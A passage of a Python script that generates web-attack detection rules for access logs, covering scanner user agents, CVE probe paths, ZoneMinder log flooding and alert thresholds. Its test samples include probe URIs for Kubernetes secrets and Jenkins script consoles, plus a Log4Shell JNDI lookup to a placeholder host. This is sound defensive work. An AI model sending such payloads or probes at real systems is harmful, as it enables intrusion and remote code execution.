  pos=[{"uri": "/cgi-bin/videoconfiguration.cgi", "status": "404"}, {"uri": "/crx/packmgr/service.jsp", "status": "403"},
       {"uri": "/remote/login?lang=en", "status": "404"}, {"uri": "/actuator/health", "status": "404"}, {"uri": "/HNAP1/", "status": "404"},
       {"uri": "/sdk", "status": "404", "method": "POST"}, {"uri": "/api/v1/namespaces/kube-system/secrets", "status": "403"},
       {"uri": "/api/v1/pods", "status": "404"}, {"uri": "/hudson/script", "status": "404"}, {"uri": "/script", "status": "404"},
       {"uri": "/nmaplowercheck1606003956", "status": "404"}, {"uri": "/pv/y000000000000.cfg", "status": "404"}],
  neg=[{"uri": "/some/random/path", "status": "404"}, {"uri": "/actuator/health", "status": "200"}, {"uri": "/cgi-bin/status.cgi", "status": "200"},
       {"uri": "/blog/solrcloud-notes", "status": "404"}, {"uri": "/docs/sdk/python/install", "status": "404"},
       {"uri": "/api/v1/nodes/42", "status": "404"}, {"uri": "/scripts/app.js", "status": "404"}, {"uri": "/blog/script", "status": "404"},
       {"uri": "/sdkman/install", "status": "404"}]),
 dict(name="WebScannerUserAgent", sev="low", tactic="reconnaissance", tech="T1595.002",
  pre=pf(UA_WORDS),
  filt="user_agent =~ " + q(SCANNER_UA),
  summary="vulnerability scanner {{ $labels.user_agent }} from {{ $labels.src_ip }}",
  desc="The User-Agent names a known scanner or attack tool (CRS scanners-user-agents list: sqlmap, Nikto, Nmap NSE, masscan, zgrab, Nuclei, gobuster, WPScan, Fuzz Faster U Fool, ...; plus feroxbuster, l9explore, acunetix...). The URI and referer do not count: a page about Nikto is not a scan.",
  pos=[{"uri": "/", "ua": u} for u in ["sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
       "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
       "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6", "Fuzz Faster U Fool v2.1.0"]],
  neg=[{"uri": "/", "ua": u} for u in ["Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "curl/8.5.0",
       "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Prometheus/2.51.0"]] + ["/blog/nikto-vs-nuclei", {"uri": "/", "ref": "https://sqlmap.org/"}]),
 dict(name="ZoneMinderLogCreate", sev="info", tactic="impact", tech="T1499.003",
  pre=pf(["request=log"]), filt='method = "POST", uri =~ ' + q(r"(?is).*/index\.php\?.*\brequest=log\b.*\btask=create\b.*|.*/index\.php\?.*\btask=create\b.*\brequest=log\b.*"),
  summary="ZoneMinder log entry created by {{ $labels.src_ip }}",
  desc="POST to ZoneMinder's index.php?view=request&request=log&task=create (CVE-2022-39291: unauthenticated log creation). Normal for the ZoneMinder web client now and then; counted by WebZoneMinderLogFlood.",
  pos=[{"uri": "/zm/index.php?view=request&request=log&task=create&level=ERR&message=x", "method": "POST"}],
  neg=[{"uri": "/zm/index.php?view=request&request=log&task=create", "method": "GET"}, {"uri": "/zm/index.php?view=console", "method": "POST"}]),
]

# --------------------------------------------------------------------------
# Alerting rules: per source, over one or more signatures.  kind "count":
# events in the window; "distinct": distinct decoded URIs in the window.
# --------------------------------------------------------------------------
ALERTS = [
    # name, signatures, kind, threshold, range, severity, tactic, technique, summary
    ("WebCVEExploit", ["WebCVEProbe"], "count", 1, "10m", "high", "initial-access", "T1190",
     "request for a known-CVE exploit URL from {{ $labels.src_ip }}"),
    ("WebLog4Shell", ["Log4Shell", "Text4Shell"], "count", 1, "10m", "critical", "initial-access", "T1190",
     "Log4Shell / Text4Shell lookup from {{ $labels.src_ip }}"),
    ("WebSpring4Shell", ["Spring4Shell"], "count", 1, "10m", "critical", "initial-access", "T1190",
     "Spring4Shell class loader access from {{ $labels.src_ip }}"),
    ("WebShellshock", ["Shellshock"], "count", 1, "10m", "critical", "initial-access", "T1190",
     "Shellshock probe from {{ $labels.src_ip }}"),
    ("WebCommandInjection", ["CommandInjection", "TemplateInjection", "RemoteFileInclude"], "count", 1, "10m", "high", "execution", "T1059",
     "remote code execution attempt (command, template or file-include injection) from {{ $labels.src_ip }}"),
    ("WebSQLInjection", ["SQLInjection", "SQLInjectionProbe"], "distinct", 3, "10m", "high", "initial-access", "T1190",
     "SQL injection probing from {{ $labels.src_ip }}: {{ $value }} distinct URIs"),
    ("WebXSS", ["CrossSiteScripting"], "distinct", 3, "10m", "medium", "initial-access", "T1189",
     "cross-site scripting probing from {{ $labels.src_ip }}: {{ $value }} distinct URIs"),
    ("WebPathTraversal", ["PathTraversal"], "distinct", 3, "10m", "high", "initial-access", "T1190",
     "path traversal probing from {{ $labels.src_ip }}: {{ $value }} distinct URIs"),
    ("WebSensitiveFiles", ["WebSensitiveFile"], "distinct", 5, "10m", "medium", "credential-access", "T1552.001",
     "{{ $value }} sensitive files requested by {{ $labels.src_ip }}"),
    ("WebshellProbing", ["WebshellProbe"], "distinct", 2, "10m", "medium", "persistence", "T1505.003",
     "{{ $value }} web shell names requested by {{ $labels.src_ip }}"),
    ("WebAdminProbing", ["WebAdminProbe"], "distinct", 3, "10m", "low", "reconnaissance", "T1595.003",
     "{{ $value }} missing admin interfaces probed by {{ $labels.src_ip }}"),
    ("WebSAPProbing", ["WebSAPProbe"], "distinct", 2, "10m", "low", "reconnaissance", "T1595.003",
     "{{ $value }} SAP paths probed by {{ $labels.src_ip }}"),
    ("WebWordPressScan", ["WordPressScan"], "distinct", 4, "10m", "low", "reconnaissance", "T1595.002",
     "{{ $value }} missing WordPress files probed by {{ $labels.src_ip }}"),
    ("WebTechnologyProbing", ["WebTechnologyProbe"], "count", 1, "10m", "low", "reconnaissance", "T1595.002",
     "{{ $labels.src_ip }} probed for a product this server does not run"),
    ("WebScanner", ["WebScannerUserAgent"], "count", 2, "10m", "medium", "reconnaissance", "T1595.002",
     "scanner user agent from {{ $labels.src_ip }} ({{ $value }} requests)"),
    ("WebZoneMinderLogFlood", ["ZoneMinderLogCreate"], "count", 10, "1m", "medium", "impact", "T1499.003",
     "{{ $labels.src_ip }} created {{ $value }} ZoneMinder log entries in a minute (CVE-2022-39291)"),
]

# --------------------------------------------------------------------------
# Sample lines in every format
# --------------------------------------------------------------------------
SRC = "198.18.0.9"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"


def sample(s):
    d = {"uri": s} if isinstance(s, str) else dict(s)
    d.setdefault("ua", BROWSER)
    d.setdefault("ref", "")
    d.setdefault("status", "404")
    d.setdefault("method", "GET")
    return d


def esc_nginx(s):
    return s.replace("\\", "\\x5C").replace('"', "\\x22")


def esc_apache(s):
    return s.replace("\\", "\\\\").replace('"', '\\"')


def f_json(d):
    o = {"time_iso8601": "2024-06-01T00:00:00+00:00", "remote_addr": SRC, "remote_user": "", "request_method": d["method"],
         "request_uri": d["uri"], "server_protocol": "HTTP/1.1", "status": int(d["status"]), "body_bytes_sent": 153,
         "request_time": 0.004, "http_referer": d["ref"], "http_user_agent": d["ua"], "host": "www.example.com"}
    return json.dumps(o, ensure_ascii=False, separators=(",", ":"))


def f_combined(d, esc=esc_nginx):
    return '%s - - [01/Jun/2024:00:00:00 +0000] "%s %s HTTP/1.1" %s 153 "%s" "%s"' % (
        SRC, d["method"], esc(d["uri"]), d["status"], esc(d["ref"] or "-"), esc(d["ua"]))


def f_common(d):
    return '%s - - [01/Jun/2024:00:00:00 +0000] "%s %s HTTP/1.0" %s 153' % (SRC, d["method"], esc_apache(d["uri"]), d["status"])


def f_vhost_port(d):
    return "www.example.com:443 " + f_combined(d, esc_apache)


def f_vhost(d):
    return "www.example.com " + f_combined(d) + ' "-"'


def f_syslog(d):
    return "Jun  1 00:00:00 web1 nginx[812]: " + f_combined(d)


def f_iso(d):
    return "2024-06-01T00:00:00.123456+00:00 web1 apache2: " + f_combined(d, esc_apache)


def f_5424(d):
    return "<190>1 2024-06-01T00:00:00+00:00 web1 nginx 812 - - " + f_combined(d)


def f_docker(d):   # docker logs --timestamps
    return "2024-06-01T00:00:00.123456789Z " + f_combined(d) + ' "-"'


def f_cri(d):   # Kubernetes CRI log file
    return "2024-06-01T00:00:00.123456789Z stdout F " + f_combined(d) + ' "-"'


FORMATTERS = [f_combined, f_json, f_vhost_port, f_common, f_syslog, f_vhost, f_iso, f_5424, f_docker, f_cri]


def render(samples, start=0):
    """Sample i in format i (round robin); the first sample in every format.
    The common format has no user agent or referer: samples that need them
    skip it."""
    out = []
    for i, s in enumerate(samples):
        d = sample(s)
        fmts = FORMATTERS if i == 0 else [FORMATTERS[(i + start) % len(FORMATTERS)]]
        for f in fmts:
            if f is f_common and (d["ua"] != BROWSER or d["ref"]):
                f = f_combined
            out.append(f(d))
    return out


def yq(s):  # single-quoted YAML scalar
    return "'" + s.replace("'", "''") + "'"


# Attacker text cannot name a victim: an address inside the URI, the referer
# or the user agent never becomes src_ip.
SPOOF = [
    '198.18.0.9 - - [01/Jun/2024:00:00:00 +0000] "GET /?x=${jndi:ldap://a/} HTTP/1.1" 404 1 "203.0.113.66 - - [01/Jun/2024:00:00:00 +0000] \\"GET /c99.php HTTP/1.1\\" 404 1" "x"',
]


def emit_rule(out, name, expr, sev, tactic, tech, summary, desc, pos, neg, extra_pos=()):
    out.append("      - alert: %s" % name)
    out.append("        expr: |\n          %s" % expr)
    out.append("        labels:\n          severity: %s\n          mitre_tactic: %s\n          mitre_technique: %s" % (sev, tactic, tech))
    out.append("        annotations:\n          summary: %s\n          description: %s" % (yq(summary), yq(desc)))
    out.append("        tests:\n          labels: {job: nginx}")
    out.append("          match:")
    for l in render(pos):
        out.append("            - line: %s\n              fields: {src_ip: %s}" % (yq(l), SRC))
    for l, fields in extra_pos:
        out.append("            - line: %s\n              fields: %s" % (yq(l), fields))
    out.append("          nomatch:")
    for l in render(neg, 3):
        out.append("            - %s" % yq(l))


def main():
    sig = {s["name"]: s for s in SIGNATURES}
    out = []
    out.append("""# ward rule pack: web attack signatures in access logs.
#
# GENERATED by rules/gen_web.py from OWASP CRS %s data files
# (scanners-user-agents, restricted-files, lfi-os-files, unix-shell); edit
# the tables there and run it again.
#
# Formats (every rule reads all of them): nginx/Apache combined, common,
# vhost_combined (`host:port client ...` and `host client ...`), the same
# behind a syslog header (nginx/apache2/httpd tag), and JSON access logs with
# nginx's variable names (remote_addr, request_uri, http_user_agent, status).
# Fields: src_ip (the client position of the format, never the URI, referer
# or user agent), method, request_uri (raw), uri (URL-decoded twice, + as a
# space), status, referer, user_agent.
#
# Group web-signatures: tagging rules (one event per matching line).
# Group web-alerts: metric rules per source (ward-window), thresholds and
# reasons in docs/rules.md.  Loki ruler format; the `tests:` key is ward's.
groups:""" % crs_version())
    out.append("  - name: web-signatures\n    rules:")
    for s in SIGNATURES:
        expr = access_query(s["pre"]) + " | " + s["filt"]
        extra = [(SPOOF[0], "{src_ip: %s}" % SRC)] if s["name"] == "Log4Shell" else []
        emit_rule(out, s["name"], expr, s["sev"], s["tactic"], s["tech"], s["summary"], s["desc"], s["pos"], s["neg"], extra)
        out.append("")
    out.append("  - name: web-alerts\n    interval: 1m\n    rules:")
    for name, sigs, kind, thr, rng, sev, tactic, tech, summary in ALERTS:
        ss = [sig[n] for n in sigs]
        if len(ss) == 1:
            pre, filt = ss[0]["pre"], ss[0]["filt"]
        else:
            # one line filter: the union of the signatures' alternatives
            alts = []
            for s in ss:
                m = re.match(r'\|~ `(?:\(\?i\))?(.*)`$', s["pre"])
                assert m, s["pre"]
                alts.append(m.group(1))
            pre = "|~ " + q("(?i)" + "|".join(alts))
            filt = " or ".join("(" + s["filt"] + ")" for s in ss)
        lq = access_query(pre) + " | " + filt
        if kind == "count":
            expr = "sum by (src_ip) (count_over_time(%s [%s])) >= %d" % (lq, rng, thr)
            desc = "%d or more matching requests from one source within %s." % (thr, rng)
        else:
            expr = "count by (src_ip) (sum by (src_ip, uri) (count_over_time(%s [%s]))) >= %d" % (lq, rng, thr)
            desc = "%d or more distinct matching URIs from one source within %s." % (thr, rng)
        desc = "Signatures " + ", ".join(sigs) + ": " + desc
        pos = [x for s in ss for x in s["pos"]][:6]
        neg = [x for s in ss for x in s["neg"]][:6]
        emit_rule(out, name, expr, sev, tactic, tech, summary, desc, pos, neg)
        out.append("")
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "web.yaml")
    with open(path, "w") as f:
        f.write("\n".join(out).rstrip("\n") + "\n")


if __name__ == "__main__":
    main()
